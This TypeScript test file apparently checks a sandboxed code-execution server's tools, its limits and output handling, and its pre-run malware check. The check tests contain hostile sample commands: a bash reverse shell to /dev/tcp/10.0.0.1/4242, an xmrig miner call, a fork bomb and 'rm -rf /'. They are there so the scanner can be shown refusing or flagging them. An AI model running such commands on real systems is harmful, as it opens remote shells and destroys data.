import { describe, expect, it } from 'vitest';
import type { CallFacts, ClientPort, ProgressUpdate } from '../../contract/server/index.ts';
import { errorMetaKey } from '../../contract/tool/index.ts';
import type { ErrorReport } from '../../contract/error/index.ts';
import { AppError } from '../../kernel/index.ts';
import type { CheckFinding } from './check/check-policy.ts';
import { outputMetaKey } from './live-output.ts';
import { aCallContext } from '../../../testkit/toolbox/call-context.ts';
import { createExecServer } from './exec-server.ts';
import {
  anExecContext,
  anExecServer,
  someCeilings,
  someLimits,
} from '../../../testkit/toolbox/exec/an-exec-server.ts';
import { FakeSandbox } from '../../../testkit/toolbox/exec/fake-sandbox.ts';

const aFinding: CheckFinding = {
  severity: 'critical',
  rule: 'python/S602',
  message: 'The text goes through a shell.',
  file: 'main.py',
  line: 1,
  column: 1,
};

function aClient(answer: object, capabilities: object = { elicitation: {} }) {
  const asked: unknown[] = [];
  const client: ClientPort = {
    id: 'one',
    era: 'handshake',
    capabilities: { ...capabilities },
    ask: async (request) => {
      asked.push(request);
      if (answer instanceof Error) throw answer;
      return { ...answer };
    },
    notify: () => {},
  };
  return { client, asked };
}

class Refused extends AppError {
  readonly code = 'gateway.client_refused';
}

async function codeOf(result: Promise<{ _meta?: object }>): Promise<string> {
  const meta = (await result)._meta as Record<string, ErrorReport> | undefined;
  return meta?.[errorMetaKey]?.code ?? 'no error';
}

describe('run_code', () => {
  it('runs a program and gives all of its outcome', async () => {
    const { call, sandbox } = anExecServer({ stdout: '1\n', wasWarm: true });
    const args = {
      language: 'python',
      code: 'print(1)',
      args: ['a b'],
      stdin: 'in',
      env: { A: '1' },
    };
    expect((await call('run_code', args)).structuredContent).toEqual({
      status: 'exited',
      exitCode: 0,
      signal: null,
      reason: null,
      stdout: '1\n',
      stderr: '',
      truncated: false,
      usage: { wallMs: 12, cpuMs: 10, peakMemoryBytes: 9_000_000 },
      verdict: 'allow',
      findings: [],
      driver: 'fake',
      warm: true,
      observations: [],
    });
    expect(sandbox.runs).toEqual([
      {
        toolchain: 'python',
        program: { kind: 'python', main: 'main.py', args: ['a b'] },
        files: { 'main.py': 'print(1)' },
        env: { A: '1' },
        stdin: 'in',
        limits: someLimits,
        mounts: [],
        collect: null,
      },
    ]);
  });

  it('takes paths as people write them', async () => {
    const { call, sandbox } = anExecServer();
    const files = { './pkg//a.py': '1', 'b.py': '2' };
    await call('run_code', { language: 'python', files, entry: './pkg/a.py' });
    expect(sandbox.runs[0]).toMatchObject({
      program: { main: 'pkg/a.py' },
      files: { 'pkg/a.py': '1', 'b.py': '2' },
    });
  });

  it('takes a non-zero exit, a signal and a kill for results, and says them in words', async () => {
    const words = async (program: object): Promise<unknown> => {
      const result = await anExecServer(program).call('run_code', { language: 'shell', code: '' });
      expect(result.isError).toBeUndefined();
      return result.content[0]?.['text'];
    };
    expect(await words({ exitCode: 3, stderr: 'no\n' })).toBe(
      'exited with 3 (12 ms, 10 ms of CPU, 9.0 MB at most; fake)\nstderr:\nno',
    );
    expect(await words({ status: 'signalled', exitCode: null, signal: 'SIGSEGV' })).toContain(
      'died of SIGSEGV',
    );
    const killed = { status: 'killed', exitCode: null, reason: 'memory', truncated: true };
    expect(await words({ ...killed, wasWarm: true })).toMatch(
      /^killed: memory \(.*fake, warm\)\n\(the output was cut at its limit\)$/,
    );
  });

  it('takes limits one by one, and lets more time bring more CPU time', async () => {
    const { call, sandbox } = anExecServer();
    const limits = { wallMs: 60_000, pids: 8, cpus: 2 };
    await call('run_code', { language: 'python', code: '', limits });
    expect(sandbox.runs[0]?.limits).toEqual({ ...someLimits, ...limits, cpuMs: 120_000 });
  });

  it('derives no limit of CPU time that the sandbox would refuse', async () => {
    const { call, sandbox } = anExecServer();
    const limits = { wallMs: 1_800_000, cpus: 8 };
    await call('run_code', { language: 'python', code: '', limits });
    expect(sandbox.runs[0]?.limits.cpuMs).toBe(someCeilings.cpuMs);
  });

  it('says what is wrong with the name of a file or a variable', async () => {
    const { call } = anExecServer();
    const wrong = { language: 'python', files: { '../a.py': '' }, env: { '1A': '' } };
    const { content } = await call('run_code', wrong);
    expect(content[0]?.['text']).toContain(
      'files.../a.py: not allowed as a name; expected a path inside the work folder, without ".."',
    );
    expect(content[0]?.['text']).toContain(
      'env.1A: not allowed as a name; expected the name of a variable',
    );
  });

  it('has the sandbox opened while the code is being checked', async () => {
    const sandbox = new FakeSandbox({});
    const order: string[] = [];
    const opened = Promise.withResolvers<void>();
    const server = createExecServer({
      ...anExecContext,
      sandbox: async () => {
        order.push('sandbox');
        opened.resolve();
        return sandbox;
      },
      scanCode: async () => {
        await opened.promise;
        order.push('checked');
        return [];
      },
    });
    await server.callTool('run_code', { language: 'python', code: '' }, aCallContext());
    expect(order.slice(0, 2)).toEqual(['sandbox', 'checked']);
  });

  it('refuses limits, names and paths that are none', async () => {
    const { call } = anExecServer();
    const base = { language: 'python', code: '' };
    for (const wrong of [
      { limits: { wallMs: -1 } },
      { limits: { memory: 5 } },
      { env: { 'A=B': '' } },
      { env: { A: 'x\0y' } },
      { args: ['\0'] },
      { language: 'cobol' },
      { files: { '/etc/passwd': '' } },
      { files: { 'a/../../b': '' } },
      { files: { '..': '' } },
      { files: { 'a\ud800': '' } },
      { args: ['\udfff'] },
      { files: { 'a.py': '1', './a.py': '2' } },
      { timeout: 5 },
    ]) {
      const result = call('run_code', { ...base, ...wrong });
      expect(await codeOf(result), JSON.stringify(wrong)).toBe('toolbox.invalid_arguments');
    }
  });

  it('cleans what the program wrote, and says when it was no text', async () => {
    const stdout = Buffer.from([0x61, 0x00, 0xff, 0x1b, 0x5b, 0x33, 0x31, 0x6d, 0x62]);
    const { call } = anExecServer({
      stdout,
      observations: [{ kind: 'file_not_collected', message: 'a\u001b[31m is a link' }],
    });
    const { structuredContent } = await call('run_code', { language: 'python', code: '' });
    expect(structuredContent).toMatchObject({
      stdout: 'a\ufffdb',
      observations: [
        { kind: 'file_not_collected', message: 'a\ufffd[31m is a link' },
        { kind: 'binary_output', message: expect.stringContaining('stdout is not text: 9 bytes') },
      ],
    });
  });

  it('brings files back, as text where they are text', async () => {
    const files = [
      { path: 'main.py', bytes: Buffer.from('x'), isExecutable: false },
      { path: 'out/a.txt', bytes: Buffer.from('grün'), isExecutable: false },
      { path: 'a\nb', bytes: Buffer.from([0xff]), isExecutable: true },
    ];
    const { call, sandbox } = anExecServer({ files });
    const args = { language: 'python', code: 'x' };
    const all = await call('run_code', { ...args, collect: [] });
    expect(all.structuredContent?.['files']).toEqual([
      { path: 'out/a.txt', size: 5, encoding: 'utf-8', content: 'grün', isExecutable: false },
      { path: 'a\ufffdb', size: 1, encoding: 'base64', content: '/w==', isExecutable: true },
    ]);
    expect(all.content[0]?.['text']).toContain('left out/a.txt (5 bytes)');
    const some = await call('run_code', { ...args, collect: ['./main.py'] });
    expect(some.structuredContent?.['files']).toHaveLength(3);
    await call('run_code', { ...args, collect: ['.'] });
    expect(sandbox.runs.map(({ collect }) => collect?.paths)).toEqual([[], ['main.py'], []]);
  });

  it('tells output live, in order, with its stream', async () => {
    const updates: ProgressUpdate[] = [];
    const { call } = anExecServer({
      pieces: [
        ['stdout', 'one\n'],
        ['stdout', 'two\u001b[0m\n'],
        ['stderr', 'three\n'],
      ],
    });
    await call(
      'run_code',
      { language: 'python', code: '' },
      { progress: (update) => updates.push(update) },
    );
    expect(updates).toEqual([
      {
        progress: 1,
        message: 'one\ntwo\n',
        _meta: { [outputMetaKey]: { stream: 'stdout', sequence: 0 } },
      },
      {
        progress: 2,
        message: 'three\n',
        _meta: { [outputMetaKey]: { stream: 'stderr', sequence: 1 } },
      },
    ]);
  });

  it('kills the program when the call is cancelled, and answers with the reason alone', async () => {
    const cancel = new AbortController();
    const { call, sandbox } = anExecServer({ isEndless: true });
    const running = call('run_code', { language: 'python', code: '' }, { signal: cancel.signal });
    await expect.poll(() => sandbox.runs.length).toBe(1);
    cancel.abort(new Error('enough'));
    await expect(running).rejects.toThrow('enough');
  });

  it('records what ran, with which limits, and what it used', async () => {
    const facts: Record<string, unknown> = {};
    const annotate = (more: CallFacts): void => void Object.assign(facts, more);
    const { call } = anExecServer({
      status: 'killed',
      exitCode: null,
      reason: 'pids',
      observations: [{ kind: 'blocked_syscall', message: 'ptrace' }],
    });
    const env = { SECRET: 'value' };
    await call('run_code', { language: 'typescript', code: '', env }, { annotate });
    expect(facts).toMatchObject({
      'tutti.sandbox.language': 'typescript',
      'tutti.check.verdict': 'allow',
      'tutti.sandbox.command': 'node main.ts',
      'tutti.sandbox.limit.memoryBytes': 536_870_912,
      'tutti.sandbox.env': ['SECRET'],
      'tutti.sandbox.reason': 'pids',
      'tutti.sandbox.usage.peakMemoryBytes': 9_000_000,
      'tutti.sandbox.pool.misses': 0,
      'tutti.sandbox.blocked': ['ptrace'],
    });
    expect(JSON.stringify(facts)).not.toContain('value');
  });
});

describe('the check before a run', () => {
  const args = { language: 'python', code: 'x' };
  const scanCode = async () => [aFinding];

  it('lets code run with its findings where the policy warns', async () => {
    const { call, sandbox } = anExecServer({}, { scanCode });
    const { structuredContent, content } = await call('run_code', args);
    expect(structuredContent).toMatchObject({ verdict: 'warn', findings: [aFinding] });
    expect(content[0]?.['text']).toContain('critical main.py:1 python/S602: The text goes');
    expect(sandbox.runs).toHaveLength(1);
  });

  it('refuses what is made to do harm, and runs nothing', async () => {
    const { call, sandbox } = anExecServer();
    const code = 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1';
    expect(await codeOf(call('run_code', { language: 'shell', code }))).toBe(
      'exec.refused_by_check',
    );
    expect(await codeOf(call('run_command', { argv: ['sh', '-c', code] }))).toBe(
      'exec.refused_by_check',
    );
    expect(sandbox.runs).toEqual([]);
  });

  it('names the setting that refused it, and passes over in silence what is allowed', async () => {
    const minor = { ...aFinding, severity: 'minor', rule: 'python/S101' } as const;
    const both = async () => [minor, aFinding];
    const warned = await anExecServer({}, { scanCode: both }).call('run_code', args);
    expect(warned.structuredContent?.['findings']).toEqual([aFinding]);
    const { call } = anExecServer({}, { scanCode: both, policy: { minor: 'refuse' } });
    expect((await call('run_code', args)).content[0]?.['text']).toBe(
      'exec.refused_by_check: The code was not run: the check found main.py:1 python/S101 (The text goes through a shell.). ' +
        'sandbox.check.minor says to refuse that',
    );
    const miner = { language: 'shell', code: './xmrig' };
    expect((await call('run_code', miner)).content[0]?.['text']).toContain(
      'sandbox.check.malicious says',
    );
  });

  it('runs what harms just the machine it runs on, which is the sandbox', async () => {
    const { call } = anExecServer();
    const code = ':(){ :|:& };:\nrm -rf /\n';
    expect((await call('run_code', { language: 'shell', code })).structuredContent).toMatchObject({
      verdict: 'warn',
      findings: [
        { rule: 'malicious/mass-destruction', line: 2, column: 1 },
        { rule: 'malicious/fork-bomb', line: 1, column: 1 },
      ],
    });
  });

  it('asks the client where the policy says so', async () => {
    const asking = { scanCode, policy: { critical: 'ask' } } as const;
    const outcome = async (client: ClientPort | undefined): Promise<string> => {
      const { call } = anExecServer({}, asking);
      return codeOf(call('run_code', args, client && { client }));
    };
    const { client, asked } = aClient({ action: 'accept', content: { approve: true } });
    expect(await outcome(client)).toBe('no error');
    expect(asked).toMatchObject([
      { method: 'elicitation/create', params: { message: expect.stringContaining('python/S602') } },
    ]);
    expect(await outcome(aClient({ action: 'decline' }).client)).toBe('exec.not_approved');
    const doubtful = aClient({ action: 'accept', content: { approve: false } });
    expect(await outcome(doubtful.client)).toBe('exec.not_approved');
    expect(await outcome(undefined)).toBe('exec.approval_needed');
    expect(await outcome(aClient({}, {}).client)).toBe('exec.approval_needed');
    expect(await outcome(aClient(new Refused('no')).client)).toBe('exec.approval_needed');
    expect(await outcome(aClient(new Error('a bug')).client)).toBe('internal.bug');
  });

  it('never takes code it could not scan for code without findings', async () => {
    const broken = async () => {
      throw new Refused('nested too deeply');
    };
    const { call } = anExecServer({}, { scanCode: broken, policy: { major: 'refuse' } });
    expect(await codeOf(call('run_code', args))).toBe('exec.refused_by_check');
    const files = Object.fromEntries(
      Array.from({ length: 201 }, (_, n) => [`f${n}.sh`, 'true'] as const),
    );
    expect(await codeOf(call('run_command', { argv: ['true'], files }))).toBe(
      'exec.refused_by_check',
    );
  });

  it('is there without the run', async () => {
    const { call, sandbox } = anExecServer({}, { scanCode });
    const { structuredContent, content } = await call('check_code', args);
    expect(structuredContent).toEqual({ verdict: 'warn', findings: [aFinding], findingsTotal: 1 });
    expect(content[0]?.['text']).toMatch(/^warn: 1 finding\ncritical main\.py:1/);
    expect(sandbox.runs).toEqual([]);
    expect(await codeOf(call('check_code', { language: 'python' }))).toBe('exec.invalid_program');
  });
});

describe('run_command', () => {
  it('runs any command over the files of the call', async () => {
    const { call, sandbox } = anExecServer({ stdout: '1\n2\n' });
    const args = { argv: ['sort', '-n', 'a'], files: { a: '2\n1\n' }, toolchain: 'python' };
    expect((await call('run_command', args)).structuredContent).toMatchObject({ stdout: '1\n2\n' });
    expect(sandbox.runs[0]).toMatchObject({
      toolchain: 'python',
      program: { kind: 'command', argv: ['sort', '-n', 'a'] },
      files: { a: '2\n1\n' },
    });
  });
});
